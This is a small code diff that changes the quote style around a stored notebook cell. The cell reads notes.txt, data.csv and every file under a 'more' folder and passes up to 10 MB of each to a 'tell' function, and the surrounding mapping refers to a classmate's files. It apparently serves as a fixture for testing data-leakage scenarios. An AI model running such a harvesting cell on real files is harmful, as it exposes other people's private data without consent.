@@ -7,7 +7,7 @@ LINKS = {
     "data.csv": "@CLASSMATE@",
     "more": "@COURSE@/@SOURCE@",
 }
-CELL = r'''
+CELL = r"""
 import glob
 
 for path in ["notes.txt", "data.csv", *glob.glob("more/**/*", recursive=True)]:
@@ -16,4 +16,4 @@ for path in ["notes.txt", "data.csv", *glob.glob("more/**/*", recursive=True)]:
             tell(file.read(10_000_000))
     except OSError:
         pass
-'''
+"""
